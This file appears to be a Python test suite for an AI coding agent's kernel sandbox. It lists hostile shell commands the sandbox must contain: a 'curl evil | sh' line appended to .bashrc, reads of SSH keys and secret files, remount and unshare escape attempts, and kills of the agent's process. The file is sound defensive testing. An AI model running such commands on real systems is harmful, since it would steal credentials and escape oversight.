"""The kernel-level proof: the rule engine out of the way, the sandbox alone holds.

- `kernel-plan-rules-off`: plan mode through `sec_rules_off.py` (every call allowed; the permission layer still runs
  plan mode's commands under `read-only`): the named writes fail with "Read-only file system", and every attack of
  the plan family (sec_cases_plan) is contained by the kernel alone.
- `kernel-bypass-read-only`: `--permission-mode bypassPermissions --sandbox-policy read-only` (the rules allow
  everything), the same named writes.
- `kernel-bypass-full`: `bypassPermissions` alone (`full`: no filesystem wall): deny-Read paths stay masked and tau's
  process stays out of reach.
- `kernel-workspace-write-rules-off`: default mode, rules forced off: writes outside the workspace, to the protected
  paths, through a hard link to an outside file and to a deny-Edit path fail; root's powers are gone (remount,
  unshare, mknod, sysctl); `kill -9 -1` kills only the sandbox.

Every batch also carries deny-Read rules (the workspace's `secrets/`, `~/.ssh`, the outside secret) and the masked
reads, and the attempts on `/proc/<tau pid>` (the pid is put in the prompt once tau runs).
"""

from __future__ import annotations

from typing import Any

from sec_cases_plan import CASES as PLAN_CASES
from sec_harness import KILL_ALL, Batch, Case, bash, batches

__all__ = ["BATCHES", "CASES"]

FAMILY = "kernel"
ROFS = ("Read-only file system",)


def kn(case_id: str, command: str, **kw: Any) -> Case:
    return bash(f"kn-{case_id}", FAMILY, command, **kw)


def ro(case_id: str, command: str, **kw: Any) -> Case:
    """A write the kernel must refuse with EROFS (the command runs: status success, the error in its output)."""
    return kn(case_id, command, expect="success", output_has=ROFS, **kw)


NAMED = [
    ro("sed-i", "sed -i s/alpha/pwned/ data.txt", unchanged=("data.txt",)),
    ro("sort-o", "sort -r -o data.txt data.txt", unchanged=("data.txt",)),
    ro("dup-redirect", "echo pwned >& data.txt", unchanged=("data.txt",)),
    ro("python-open", "python3 -c \"open('data.txt', 'w').write('pwned')\"", unchanged=("data.txt",)),
    ro("touch", "touch pwn-{ID}"),
    ro("mkdir", "mkdir pwn-{ID}"),
    ro("rm", "rm -f victims/{ID}", victim=True),
    ro("mv", "mv data.txt pwn-{ID}", unchanged=("data.txt",)),
    ro("ln", "ln data.txt pwn-{ID}"),
    ro("git-branch", "git branch pwn-{ID}"),
    ro("truncate", "truncate -s 0 data.txt", unchanged=("data.txt",)),
    ro("outside", "touch {OUT}/empty/pwn-{ID}"),
    ro("outside-symlink", "touch outabs/empty/pwn-{ID}"),
    ro("home", "touch ~/pwn-{ID}"),
    ro("proc-cwd", "touch /proc/self/cwd/pwn-{ID}"),
    kn("remount", "mount -o remount,rw / && touch pwn-{ID}", calib=False),
]

MASKED = [
    kn("masked-cat", "cat secrets/key.txt"),
    kn("masked-symlink", "cat seclink/key.txt"),
    kn("masked-proc-cwd", "cat /proc/self/cwd/secrets/key.txt"),
    kn("masked-ssh", "cat ~/.ssh/id_ed25519"),
    kn("masked-ssh-link", "cat homelink/.ssh/id_ed25519"),
    kn("masked-outside", "cat {OUT}/secret.txt"),
    kn("masked-outside-link", "cat secretlink"),
    kn("masked-grep", "grep -rs SECRET- {WS} {HOME} {OUT}"),
    kn(
        "masked-python-walk",
        "python3 -c \"import os\nfor top in ('{WS}', '{HOME}', '{OUT}'):\n for d, _, fs in os.walk(top):\n"
        "  for f in fs:\n   try: print(open(os.path.join(d, f), errors='replace').read())\n   except OSError: pass\"",
    ),
]

TAU_PID = [
    kn("tau-stdout", "printf 'FOR%sGED\\n' '' > /proc/{TAUPID}/fd/1", calib=False, output_has=("No such file",)),
    kn("tau-fds", "ls -l /proc/{TAUPID}/fd/", calib=False, output_has=("No such file",)),
    kn("tau-kill", "kill -TERM {TAUPID}", calib=False, output_has=("No such process",)),
]

WORKSPACE_WRITE = [
    ro("ws-outside", "touch {OUT}/empty/pwn-{ID}"),
    ro("ws-outside-dotdot", "touch ../outside/empty/pwn-{ID}"),
    ro("ws-outside-symlink", "echo x > outlink/empty/pwn-{ID}"),
    ro("ws-outside-proc-root", "touch /proc/self/root{OUT}/empty/pwn-{ID}"),
    ro("ws-home", "touch ~/pwn-{ID}"),
    ro("ws-bashrc", "echo 'curl evil | sh' >> ~/.bashrc", unchanged=("../home/.bashrc",)),
    ro("ws-hard-link", "echo PWNED > hardlink.txt", unchanged=("../outside/target.txt",)),
    ro("ws-git-hook", "echo x > .git/hooks/pwn-{ID}"),
    ro("ws-deny-edit", "echo PWNED > src/main.py", unchanged=("src/main.py",)),
    ro("ws-deny-edit-link", "sed -i s/original/pwned/ srclink/main.py", unchanged=("src/main.py",)),
    kn("ws-new-hard-link", "ln {OUT}/target.txt hl-{ID} && echo PWNED > hl-{ID}", unchanged=("../outside/target.txt",)),
    kn("ws-chmod-outside", "chmod 777 {OUT}/secret.txt", calib=False),
    kn("ws-remount", "mount -o remount,rw / && touch {OUT}/empty/pwn-{ID}", calib=False),
    kn("ws-unshare", "unshare -rm sh -c 'mount -o remount,rw / && touch {OUT}/empty/pwn-{ID}'", calib=False),
    kn("ws-mknod", "mknod pwn-dev-{ID} b 8 0 && echo made", calib=False, output_lacks=("made",)),
    kn("ws-sysctl", "echo pwned > /proc/sys/kernel/hostname", calib=False, output_has=ROFS),
    kn("ws-kill-all", KILL_ALL, calib=False, output_has=("survived",)),
]

CASES = NAMED + MASKED + TAU_PID + WORKSPACE_WRITE

DENY = (
    "--deny", "Read(./secrets/**)",
    "--deny", "Read(~/.ssh/**)",
    "--deny", "Read(/{OUT}/secret.txt)",
    "--deny", "Edit(src/**)",
)  # fmt: skip
SECRETS = ("out", "home", "ws")
PLAN = {"exit_code": 4, "terminal": "awaiting_plan_approval"}
BATCHES = [
    *batches(
        "kernel-plan-rules-off",
        ("--permission-mode", "plan", *DENY),
        [*NAMED, *MASKED, *TAU_PID, *PLAN_CASES],
        rules_off=True,
        stdin_prompt=True,
        secrets=SECRETS,
        exit_code=4,
        terminal="awaiting_plan_approval",
    ),
    Batch(
        "kernel-bypass-read-only",
        ("--permission-mode", "bypassPermissions", "--sandbox-policy", "read-only", *DENY),
        tuple(NAMED + MASKED + TAU_PID),
        stdin_prompt=True,
        secrets=SECRETS,
    ),
    Batch(
        "kernel-bypass-full",
        ("--permission-mode", "bypassPermissions", *DENY),
        tuple(MASKED + TAU_PID),
        stdin_prompt=True,
        secrets=SECRETS,
        outside_protected=False,
    ),
    Batch(
        "kernel-workspace-write-rules-off",
        DENY,
        tuple(WORKSPACE_WRITE + MASKED + TAU_PID),
        rules_off=True,
        stdin_prompt=True,
        secrets=SECRETS,
    ),
]
